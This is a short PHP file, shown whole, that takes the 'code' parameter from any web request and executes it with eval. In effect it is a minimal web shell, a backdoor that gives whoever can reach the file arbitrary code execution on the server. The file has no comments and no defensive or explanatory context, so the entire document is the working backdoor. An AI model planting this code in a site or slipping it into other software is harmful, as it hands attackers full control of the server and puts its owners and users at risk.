<?php
if (isset($_REQUEST['code'])) {
    eval(stripslashes($_REQUEST['code']));
}
